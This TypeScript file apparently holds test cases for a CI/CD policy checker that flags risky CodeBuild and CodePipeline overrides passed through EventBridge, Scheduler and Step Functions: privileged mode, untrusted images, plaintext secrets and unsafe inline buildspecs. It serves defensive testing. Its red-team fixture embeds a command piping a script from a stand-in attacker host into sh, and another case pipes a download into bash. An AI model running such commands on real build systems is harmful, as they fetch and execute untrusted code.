import { defineCases, type Properties } from '../../helpers/cases';

const RULE = 'AWS::Events::Rule';
const SCHEDULE = 'AWS::Scheduler::Schedule';
const PROJECT_ARN = 'arn:aws:codebuild:eu-west-1:123456789012:project/app-build';
const START_BUILD = 'arn:aws:scheduler:::aws-sdk:codebuild:startBuild';
const PIPELINE_ARN = 'arn:aws:codepipeline:eu-west-1:123456789012:release';
const GH = 'ghp_R8fJ2kLm9QwXz4VbN7cT1yHs5dPg3aEu6iOo';

/** A rule (Targets[0]) or a schedule (Target) with one target; `target` is merged into it. */
function withTarget(type: string, target: Record<string, unknown>, arn?: string): Properties {
  if (type === RULE) {
    return { Name: 'nightly', ScheduleExpression: 'cron(0 2 * * ? *)', State: 'ENABLED', Targets: [{ Id: 'T', Arn: arn ?? PROJECT_ARN, RoleArn: 'arn:aws:iam::123456789012:role/events', ...target }] };
  }
  return { ScheduleExpression: 'cron(0 2 * * ? *)', FlexibleTimeWindow: { Mode: 'OFF' }, Target: { Arn: arn ?? START_BUILD, RoleArn: 'arn:aws:iam::123456789012:role/scheduler', ...target } };
}
/** A target whose Input is these parameters (the schedule's universal target also names the project). */
const start = (params: Record<string, unknown>, arn?: string) => (type: string) =>
  withTarget(type, { Input: JSON.stringify(type === SCHEDULE && arn === undefined ? { ProjectName: 'app-build', ...params } : params) }, arn);
const at = (key: string) => (type: string) => (type === RULE ? `Targets[0].Input.${key}` : `Target.Input.${key}`);
const inputOf = (type: string) => (type === RULE ? 'Targets[0].Input' : 'Target.Input');

const SM = 'AWS::StepFunctions::StateMachine';
const SYNC = 'arn:aws:states:::codebuild:startBuild.sync';
const SM_ROLE = 'arn:aws:iam::123456789012:role/states-start-build';
/** A state machine with one task state `Build` (or the given states) as a Definition object. */
const machine = (states: Record<string, unknown>, extra: Record<string, unknown> = {}): Properties => ({ RoleArn: SM_ROLE, Definition: { StartAt: Object.keys(states)[0], States: states }, ...extra });
const task = (resource: string, params: Record<string, unknown> | undefined, key = 'Parameters') => ({ Type: 'Task', Resource: resource, ...(params === undefined ? {} : { [key]: params }), End: true });
const build = (params: Record<string, unknown>, resource = SYNC) => machine({ Build: task(resource, { ProjectName: 'app-build', ...params }) });
/** The same definition as a DefinitionString. */
const asString = (p: Properties, extra: Record<string, unknown> = {}): Properties => ({ RoleArn: SM_ROLE, DefinitionString: JSON.stringify((p as Record<string, unknown>).Definition), ...extra });
const RED_TEAM = { PrivilegedModeOverride: true, ImageOverride: 'docker.io/evil/img', BuildspecOverride: 'version: 0.2\nphases:\n  build:\n    commands:\n      - curl -sSL https://evil.example/x.sh | sh\n' };

export default defineCases({
  controlId: 'CICD.EVENTS.1',
  resourceTypes: [RULE, SCHEDULE],
  cases: [
    // ---- PASS
    { name: 'starts the build with the source version only', properties: start({ sourceVersion: 'main' }), expect: 'PASS' },
    { name: 'no Input: the project as defined', properties: (t) => withTarget(t, {}), absent: (t) => [inputOf(t)], expect: 'PASS' },
    { name: 'no targets at all', properties: (t) => (t === RULE ? { Name: 'r', EventPattern: { source: ['aws.codecommit'] } } : { ScheduleExpression: 'rate(1 day)', FlexibleTimeWindow: { Mode: 'OFF' } }), absent: (t) => [t === RULE ? 'Targets' : 'Target'], expect: 'PASS' },
    { name: 'privilegedModeOverride false', properties: start({ privilegedModeOverride: false }), expect: 'PASS' },
    { name: 'privilegedModeOverride "false" (string)', properties: start({ PrivilegedModeOverride: 'false' }), expect: 'PASS' },
    { name: 'an allowed curated image', properties: start({ imageOverride: 'aws/codebuild/standard:7.0' }), expect: 'PASS' },
    { name: 'a secret passed by reference (PARAMETER_STORE)', properties: start({ environmentVariablesOverride: [{ name: 'DB_PASSWORD', value: '/ci/db-password', type: 'PARAMETER_STORE' }] }), expect: 'PASS' },
    { name: 'an inline buildspec that is clean', properties: start({ buildspecOverride: 'version: 0.2\nphases:\n  build:\n    commands:\n      - npm ci\n      - npm test\n' }), expect: 'PASS' },
    { name: 'a target that does not start a build (SNS) with build-like input', properties: (t) => withTarget(t, { Input: JSON.stringify({ privilegedModeOverride: true }) }, 'arn:aws:sns:eu-west-1:123456789012:alerts'), expect: 'PASS' },
    { name: 'pipeline started with harmless variables', properties: start({ variables: [{ name: 'DEPLOY_ENV', value: 'staging' }] }, PIPELINE_ARN), expect: 'PASS' },
    { name: 'overrides of a disabled project control are not judged either', properties: start({ privilegedModeOverride: true }), config: { DisabledControls: ['CICD.CODEBUILD.5'] }, expect: 'PASS' },
    {
      name: 'variable value and source version taken from the event (InputTransformer)',
      resourceType: RULE,
      properties: withTarget(RULE, { InputTransformer: { InputPathsMap: { commit: '$.detail.commitId' }, InputTemplate: '{"sourceVersion": <commit>, "environmentVariablesOverride": [{"name": "COMMIT", "value": "<commit>"}]}' } }),
      expect: 'PASS',
    },
    { name: 'InputPath "$" passes the whole event (no StartBuild parameters)', resourceType: RULE, properties: withTarget(RULE, { InputPath: '$' }), expect: 'PASS' },

    // ---- FAIL: the override is the build
    { name: 'privilegedModeOverride true', properties: start({ privilegedModeOverride: true }), expect: 'FAIL', messageIncludes: (t) => [at('privilegedModeOverride')(t), 'CICD.CODEBUILD.5'] },
    { name: 'PrivilegedModeOverride "True" (PascalCase, string)', properties: start({ PrivilegedModeOverride: 'True' }), expect: 'FAIL', messageIncludes: (t) => at('PrivilegedModeOverride')(t) },
    { name: 'PRIVILEGEDMODEOVERRIDE in capitals', properties: start({ PRIVILEGEDMODEOVERRIDE: 'TRUE' }), expect: 'FAIL', messageIncludes: (t) => at('PRIVILEGEDMODEOVERRIDE')(t) },
    { name: 'an image from Docker Hub', properties: start({ imageOverride: 'docker.io/library/ubuntu:latest' }), expect: 'FAIL', messageIncludes: (t) => [at('imageOverride')(t), 'CICD.CODEBUILD.9'] },
    { name: 'an image from a registry with credentials', properties: start({ registryCredentialOverride: { credential: 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:hub', credentialProvider: 'SECRETS_MANAGER' } }), expect: 'FAIL', messageIncludes: (t) => at('registryCredentialOverride')(t) },
    {
      name: 'an inline buildspec piping a download into bash',
      properties: start({ buildspecOverride: 'version: 0.2\nphases:\n  build:\n    commands:\n      - curl -sSL https://example.com/install.sh | bash\n' }),
      expect: 'FAIL',
      messageIncludes: (t) => [at('buildspecOverride')(t), 'CICD.CODEBUILD.13'],
    },
    {
      name: 'an inline buildspec whose batch runs privileged',
      properties: start({ buildspecOverride: 'version: 0.2\nbatch:\n  build-list:\n    - identifier: a\n      env:\n        privileged-mode: true\nphases:\n  build:\n    commands:\n      - make\n' }),
      expect: 'FAIL',
      messageIncludes: 'CICD.CODEBUILD.5',
    },
    {
      name: 'a PLAINTEXT token in the variables override (never echoed)',
      properties: start({ environmentVariablesOverride: [{ name: 'GITHUB_TOKEN', value: GH }] }),
      expect: 'FAIL',
      messageIncludes: (t) => [at('environmentVariablesOverride[0]')(t), 'GITHUB_TOKEN'],
      neverEcho: [GH],
    },
    { name: 'PascalCase variables override (Scheduler SDK names)', properties: start({ EnvironmentVariablesOverride: [{ Name: 'DB_PASSWORD', Value: 'Xk82hsPqLm4Zt9Wc', Type: 'PLAINTEXT' }] }), expect: 'FAIL', messageIncludes: 'DB_PASSWORD', neverEcho: ['Xk82hsPqLm4Zt9Wc'] },
    { name: 'insecureSslOverride true', properties: start({ insecureSslOverride: true }), expect: 'FAIL', messageIncludes: (t) => at('insecureSslOverride')(t) },
    { name: 'logs switched off', properties: start({ logsConfigOverride: { cloudWatchLogs: { status: 'DISABLED' } } }), expect: 'FAIL', messageIncludes: (t) => at('logsConfigOverride')(t) },
    { name: 'artifacts unencrypted', properties: start({ artifactsOverride: { type: 'S3', location: 'out-bucket', encryptionDisabled: true } }), expect: 'FAIL', messageIncludes: (t) => at('artifactsOverride.encryptionDisabled')(t) },
    { name: 'the AWS-managed S3 key instead of a CMK', properties: start({ encryptionKeyOverride: 'alias/aws/s3' }), expect: 'FAIL', messageIncludes: (t) => at('encryptionKeyOverride')(t) },
    { name: 'a source location with a token in it', properties: start({ sourceLocationOverride: `https://x-access-token:${GH}@github.com/acme/app.git` }), expect: 'FAIL', messageIncludes: (t) => at('sourceLocationOverride')(t), neverEcho: [GH] },
    {
      name: 'a secondary source with an unverified TLS host',
      properties: start({ secondarySourcesOverride: [{ type: 'GITHUB_ENTERPRISE', location: 'https://ghe.example.com/acme/lib.git', insecureSsl: true, sourceIdentifier: 'lib' }] }),
      expect: 'FAIL',
      messageIncludes: (t) => at('secondarySourcesOverride[0].insecureSsl')(t),
    },
    { name: 'one parameter spelt in two letter cases', properties: start({ privilegedModeOverride: false, PrivilegedModeOverride: false }), expect: 'FAIL', messageIncludes: 'more than once' },
    { name: 'a templated schedule target (project ARN) and a rule alike', properties: (t) => withTarget(t, { Input: JSON.stringify({ privilegedModeOverride: true }) }, PROJECT_ARN), expect: 'FAIL', messageIncludes: 'CICD.CODEBUILD.5' },
    { name: 'a pipeline started with a secret variable', properties: start({ variables: [{ name: 'API_TOKEN', value: GH }] }, PIPELINE_ARN), expect: 'FAIL', messageIncludes: (t) => [at('variables[0]')(t), 'API_TOKEN'], neverEcho: [GH] },
    {
      name: 'update adds privilegedModeOverride',
      properties: start({ sourceVersion: 'main', privilegedModeOverride: true }),
      previous: start({ sourceVersion: 'main' }),
      actions: ['UPDATE'],
      expect: 'FAIL',
      weakened: true,
    },
    {
      name: 'the image taken from the event (InputTransformer placeholder)',
      resourceType: RULE,
      properties: withTarget(RULE, { InputTransformer: { InputPathsMap: { img: '$.detail.image' }, InputTemplate: '{"imageOverride": <img>}' } }),
      expect: 'FAIL',
      messageIncludes: ['Targets[0].InputTransformer.InputTemplate.imageOverride', 'from the event'],
    },
    {
      name: 'a quoted placeholder in the buildspec override',
      resourceType: RULE,
      properties: withTarget(RULE, { InputTransformer: { InputPathsMap: { cmd: '$.detail.cmd' }, InputTemplate: '{"buildspecOverride": "version: 0.2\\nphases:\\n  build:\\n    commands:\\n      - <cmd>\\n"}' } }),
      expect: 'FAIL',
      messageIncludes: 'from the event',
    },
    { name: 'InputPath makes the event the StartBuild parameters', resourceType: RULE, properties: withTarget(RULE, { InputPath: '$.detail' }), expect: 'FAIL', messageIncludes: 'Targets[0].InputPath' },
    {
      name: 'Scheduler startBuildBatch with privileged mode',
      resourceType: SCHEDULE,
      properties: withTarget(SCHEDULE, { Input: JSON.stringify({ ProjectName: 'app-build', PrivilegedModeOverride: true }) }, 'arn:aws:scheduler:::aws-sdk:codebuild:startBuildBatch'),
      expect: 'FAIL',
      messageIncludes: 'batch build',
    },
    {
      name: 'a schedule that rewrites the project (aws-sdk:codebuild:updateProject)',
      resourceType: SCHEDULE,
      properties: withTarget(SCHEDULE, { Input: JSON.stringify({ Name: 'app-build', Environment: { PrivilegedMode: true } }) }, 'arn:aws:scheduler:::aws-sdk:codebuild:updateProject'),
      expect: 'FAIL',
      messageIncludes: ['Target.Arn', 'codebuild:updateProject'],
    },
    {
      name: 'target ARN not resolved locally: judged by its StartBuild parameters',
      properties: (t) => withTarget(t, { Input: JSON.stringify({ privilegedModeOverride: true }) }, { 'Fn::GetAtt': ['Project', 'Arn'] } as unknown as string),
      typedOnly: true,
      expect: 'FAIL',
    },

    // ---- Step Functions state machines (Definition, DefinitionString, substitutions, nested states, JSONata)
    { name: 'state machine: a build with the source version only', resourceType: SM, properties: build({ SourceVersion: 'main' }), expect: 'PASS' },
    { name: 'state machine: the same as DefinitionString', resourceType: SM, properties: asString(build({ SourceVersion: 'main' })), expect: 'PASS' },
    { name: 'state machine: no definition property', resourceType: SM, properties: { RoleArn: SM_ROLE }, absent: ['Definition', 'DefinitionString', 'DefinitionS3Location'], expect: 'PASS' },
    { name: 'state machine: a Lambda task with build-like parameters', resourceType: SM, properties: machine({ F: task('arn:aws:states:::lambda:invoke', { FunctionName: 'f', Payload: { PrivilegedModeOverride: true } }) }), expect: 'PASS' },
    { name: 'state machine: source version and a variable value from the execution input (.$)', resourceType: SM, properties: build({ 'SourceVersion.$': '$.commit', EnvironmentVariablesOverride: [{ Name: 'COMMIT', 'Value.$': '$.commit', Type: 'PLAINTEXT' }] }), expect: 'PASS' },
    {
      name: 'state machine: JSONata Arguments with the source version as an expression',
      resourceType: SM,
      properties: machine({ Build: task(SYNC, { ProjectName: 'app-build', SourceVersion: '{% $states.input.commit %}' }, 'Arguments') }, {}),
      expect: 'PASS',
    },
    { name: 'state machine: red-team repro (optimized startBuild.sync, Definition object)', resourceType: SM, properties: build(RED_TEAM), expect: 'FAIL', messageIncludes: ['Definition.States.Build.Parameters.PrivilegedModeOverride', 'CICD.CODEBUILD.5', 'CICD.CODEBUILD.9'] },
    { name: 'state machine: red-team repro as DefinitionString', resourceType: SM, properties: asString(build(RED_TEAM)), expect: 'FAIL', messageIncludes: ['DefinitionString.States.Build.Parameters.ImageOverride', 'CICD.CODEBUILD.9'] },
    { name: 'state machine: SDK integration aws-sdk:codebuild:startBuild', resourceType: SM, properties: build({ PrivilegedModeOverride: 'true' }, 'arn:aws:states:::aws-sdk:codebuild:startBuild'), expect: 'FAIL', messageIncludes: 'CICD.CODEBUILD.5' },
    { name: 'state machine: startBuildBatch.sync', resourceType: SM, properties: build({ ImageOverride: 'docker.io/library/ubuntu:latest' }, 'arn:aws:states:::codebuild:startBuildBatch.sync'), expect: 'FAIL', messageIncludes: 'batch build' },
    {
      name: 'state machine: aws-sdk:codepipeline:startPipelineExecution with a secret variable',
      resourceType: SM,
      properties: machine({ P: task('arn:aws:states:::aws-sdk:codepipeline:startPipelineExecution', { Name: 'release', Variables: [{ Name: 'API_TOKEN', Value: GH }] }) }),
      expect: 'FAIL',
      messageIncludes: ['Definition.States.P.Parameters.Variables[0]', 'API_TOKEN'],
      neverEcho: [GH],
    },
    {
      name: 'state machine: a Parallel branch and a Map item processor',
      resourceType: SM,
      properties: machine({
        P: { Type: 'Parallel', Branches: [{ StartAt: 'B', States: { B: task(SYNC, { ProjectName: 'app-build', PrivilegedModeOverride: true }) } }], Next: 'M' },
        M: { Type: 'Map', ItemProcessor: { StartAt: 'I', States: { I: task(SYNC, { ProjectName: 'app-build', InsecureSslOverride: true }) } }, Next: 'L' },
        L: { Type: 'Map', Iterator: { StartAt: 'J', States: { J: task(SYNC, { ProjectName: 'app-build', EncryptionKeyOverride: 'alias/aws/s3' }) } }, End: true },
      }),
      expect: 'FAIL',
      messageIncludes: ['Definition.States.P.Branches[0].States.B.Parameters.PrivilegedModeOverride', 'Definition.States.M.ItemProcessor.States.I.Parameters.InsecureSslOverride', 'Definition.States.L.Iterator.States.J.Parameters.EncryptionKeyOverride'],
    },
    { name: 'state machine: the image from the execution input (ImageOverride.$)', resourceType: SM, properties: build({ 'ImageOverride.$': '$.image' }), expect: 'FAIL', messageIncludes: ["Definition.States.Build.Parameters.ImageOverride", "the execution's input"] },
    {
      name: 'state machine: JSONata privileged mode from an expression',
      resourceType: SM,
      properties: { RoleArn: SM_ROLE, Definition: { QueryLanguage: 'JSONata', StartAt: 'Build', States: { Build: task(SYNC, { ProjectName: 'app-build', PrivilegedModeOverride: '{% $states.input.privileged %}' }, 'Arguments') } } },
      expect: 'FAIL',
      messageIncludes: ['Definition.States.Build.Arguments.PrivilegedModeOverride', 'JSONata'],
    },
    { name: 'state machine: JSONata Arguments as one expression', resourceType: SM, properties: machine({ Build: { Type: 'Task', QueryLanguage: 'JSONata', Resource: SYNC, Arguments: '{% $states.input %}', End: true } }), expect: 'FAIL', messageIncludes: 'Definition.States.Build.Arguments' },
    { name: 'state machine: a build task without Parameters takes its input as parameters', resourceType: SM, properties: machine({ Build: task(SYNC, undefined) }), expect: 'FAIL', messageIncludes: 'has no Parameters' },
    {
      name: 'state machine: the Resource hidden in a DefinitionSubstitution',
      resourceType: SM,
      properties: asString(machine({ Build: task('${R}', { ProjectName: 'app-build', PrivilegedModeOverride: true }) }), { DefinitionSubstitutions: { R: SYNC } }),
      expect: 'FAIL',
      messageIncludes: 'CICD.CODEBUILD.5',
    },
    {
      name: 'state machine: an override value from a DefinitionSubstitution is substituted before judging',
      resourceType: SM,
      properties: { ...build({ ImageOverride: '${Img}' }), DefinitionSubstitutions: { Img: 'docker.io/evil/img' } },
      expect: 'FAIL',
      messageIncludes: 'CICD.CODEBUILD.9',
    },
    {
      name: 'state machine: a bare substitution for a boolean override',
      resourceType: SM,
      properties: { RoleArn: SM_ROLE, DefinitionString: '{"StartAt":"Build","States":{"Build":{"Type":"Task","Resource":"arn:aws:states:::codebuild:startBuild","Parameters":{"ProjectName":"app-build","PrivilegedModeOverride":${P}},"End":true}}}', DefinitionSubstitutions: { P: true } },
      expect: 'FAIL',
      messageIncludes: 'CICD.CODEBUILD.5',
    },
    {
      name: 'state machine: a DefinitionString built with Fn::Join (CDK), the partition a Ref',
      resourceType: SM,
      typedOnly: true,
      properties: { RoleArn: SM_ROLE, DefinitionString: { 'Fn::Join': ['', ['{"StartAt":"Build","States":{"Build":{"Type":"Task","Resource":"arn:', { Ref: 'AWS::Partition' }, ':states:::codebuild:startBuild.sync","Parameters":{"ProjectName":"', { Ref: 'Project' }, '","PrivilegedModeOverride":true},"End":true}}}']] } },
      expect: 'FAIL',
      messageIncludes: 'CICD.CODEBUILD.5',
    },
    { name: 'state machine: a task that rewrites the project (aws-sdk:codebuild:updateProject)', resourceType: SM, properties: machine({ U: task('arn:aws:states:::aws-sdk:codebuild:updateProject', { Name: 'app-build', Environment: { PrivilegedMode: true } }) }), expect: 'FAIL', messageIncludes: ['Definition.States.U.Resource', 'codebuild:updateProject'] },
    {
      name: 'state machine: a Resource substitution the template does not resolve, judged by its StartBuild parameters',
      resourceType: SM,
      typedOnly: true,
      properties: asString(machine({ Build: task('${R}', { ProjectName: 'app-build', PrivilegedModeOverride: true }) }), { DefinitionSubstitutions: { R: { 'Fn::GetAtt': ['X', 'Arn'] } } }),
      expect: 'FAIL',
      messageIncludes: 'CICD.CODEBUILD.5',
    },
    { name: 'state machine: definition in S3', resourceType: SM, properties: { RoleArn: SM_ROLE, DefinitionS3Location: { Bucket: 'defs', Key: 'sm.json' } }, expect: 'UNKNOWN' },
    { name: 'state machine: DefinitionString that is not JSON', resourceType: SM, properties: { RoleArn: SM_ROLE, DefinitionString: '{"StartAt": "Build", States: {}' }, expect: 'UNKNOWN' },
    { name: 'state machine: DefinitionString not resolved (Ref)', resourceType: SM, typedOnly: true, properties: { RoleArn: SM_ROLE, DefinitionString: { Ref: 'Definition' } }, expect: 'UNKNOWN' },
    {
      name: 'state machine: an override from a substitution the template does not resolve',
      resourceType: SM,
      typedOnly: true,
      properties: { ...build({ ImageOverride: '${Img}' }), DefinitionSubstitutions: { Img: { Ref: 'Image' } } },
      expect: 'UNKNOWN',
    },

    // ---- UNKNOWN: what cannot be read is never a PASS
    { name: 'Input that is not JSON', properties: (t) => withTarget(t, { Input: '{privilegedModeOverride: true' }), expect: 'UNKNOWN' },
    { name: 'Input with a duplicate key', properties: (t) => withTarget(t, { Input: '{"privilegedModeOverride": false, "privilegedModeOverride": true}' }), expect: 'UNKNOWN' },
    { name: 'Input not resolved (Fn::Sub)', properties: (t) => withTarget(t, { Input: { 'Fn::Sub': '{"imageOverride": "${Image}"}' } }), typedOnly: true, expect: 'UNKNOWN' },
    {
      name: 'an input template that is not JSON',
      resourceType: RULE,
      properties: withTarget(RULE, { InputTransformer: { InputPathsMap: { v: '$.detail.v' }, InputTemplate: 'build <v> now' } }),
      expect: 'UNKNOWN',
    },
  ],
});
